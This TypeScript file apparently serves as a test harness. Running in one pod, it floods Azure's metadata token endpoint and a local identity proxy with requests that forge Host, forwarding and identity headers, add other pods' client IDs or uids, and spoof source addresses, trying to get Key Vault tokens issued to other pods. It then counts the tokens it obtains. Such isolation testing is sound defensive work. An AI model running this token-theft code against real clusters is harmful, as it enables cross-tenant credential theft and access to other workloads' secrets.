/**
 * A program in a pod that asks for tokens in every way that might get another pod's. Prints what it got as JSON, a line
 * every 200 ms, until it is killed.
 */
import { Agent, request } from 'node:http'
import { z } from 'zod'

/** The argument: what the program knows of the other pods. */
export const Knowledge = z.object({
  clientIds: z.array(z.string()),
  /** Addresses of the node's pods; this pod has claimed them all. */
  addresses: z.array(z.string()),
  uids: z.array(z.string()),
})
export type Knowledge = z.infer<typeof Knowledge>

/** One line: the counts since the line before. */
export const Report = z.object({
  requests: z.number(),
  /** Responses without a token. */
  refused: z.number(),
  /** Requests without a response, such as requests of a pod that is deleted. */
  failed: z.number(),
  /** How often each token came, by its claim `uti`. */
  tokens: z.record(z.string(), z.number()),
})
type Report = z.infer<typeof Report>

const PATH =
  '/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://vault.azure.net'
const CALLERS = 8
const REPORT_EVERY_MS = 200
const TIMEOUT_MS = 60_000
const Body = z.object({ access_token: z.string() })
const Claims = z.object({ uti: z.string() })

const pick = <T>(list: readonly T[]): T | undefined => list[Math.floor(Math.random() * list.length)]

const createReport = (): Report => ({ requests: 0, refused: 0, failed: 0, tokens: {} })
let report = createReport()

/** Headers by which a careless server would find the caller, with the values of another pod. */
function forgeHeaders({ addresses, uids }: Knowledge): Record<string, string> {
  const address = pick(addresses) ?? ''
  const uid = pick(uids) ?? ''
  const forged: readonly Record<string, string>[] = [
    {},
    {},
    { Host: address },
    { Host: `${address}:64169` },
    { Host: 'localhost' },
    { 'X-Forwarded-For': address },
    { 'X-Real-IP': address },
    { Forwarded: `for=${address}` },
    { 'X-Pod-Uid': uid, 'X-Ms-Client-Request-Id': uid },
    { Authorization: `Bearer ${uid}`, Secret: uid, 'X-Identity-Header': uid },
  ]
  return { Metadata: 'true', ...pick(forged) }
}

/** Names another identity, or another pod. */
function forgePath({ clientIds, uids }: Knowledge): string {
  const clientId = pick(clientIds)
  const uid = pick(uids)
  const forged = ['', '', '', `&client_id=${clientId}`, `&uid=${uid}`, `&instanceId=${uid}`]
  return `${PATH}${pick(forged)}`
}

/** Makes one request, on a connection that is kept or on a new one, from an address of its own or of another pod. */
function attack(knowledge: Knowledge, agent: Agent): Promise<void> {
  const { promise, resolve } = Promise.withResolvers<void>()
  const isDirect = Math.random() < 0.1
  const options = {
    agent: Math.random() < 0.5 ? agent : false,
    ...(isDirect ? { host: '127.0.0.1', port: 64_169 } : { host: '169.254.169.254', port: 80 }),
    ...(!isDirect && Math.random() < 0.3 && { localAddress: pick(knowledge.addresses) }),
    path: forgePath(knowledge),
    headers: forgeHeaders(knowledge),
    timeout: TIMEOUT_MS,
  }
  const call = request(options, (response) => {
    let body = ''
    response.setEncoding('utf8').on('data', (text: string) => (body += text))
    response.on('end', () => {
      count(body)
      resolve()
    })
    response.on('error', () => resolve())
  })
  call.on('timeout', () => call.destroy())
  call.on('error', () => {
    report.failed += 1
    resolve()
  })
  call.end()
  return promise
}

function count(body: string): void {
  report.requests += 1
  const { data } = Body.safeParse(parse(body))
  if (data === undefined) {
    report.refused += 1
    return
  }
  const [, payload = ''] = data.access_token.split('.')
  const { uti } = Claims.parse(JSON.parse(Buffer.from(payload, 'base64url').toString()))
  report.tokens[uti] = (report.tokens[uti] ?? 0) + 1
}

function parse(text: string): unknown {
  try {
    return JSON.parse(text)
  } catch {
    return undefined
  }
}

if (import.meta.main) {
  const knowledge = Knowledge.parse(JSON.parse(process.argv[2] ?? ''))
  const agent = new Agent({ keepAlive: true, maxSockets: CALLERS })
  setInterval(() => {
    process.stdout.write(`${JSON.stringify(report)}\n`)
    report = createReport()
  }, REPORT_EVERY_MS)
  for (let caller = 0; caller < CALLERS; caller += 1) {
    void (async () => {
      for (;;) await attack(knowledge, agent)
    })()
  }
}
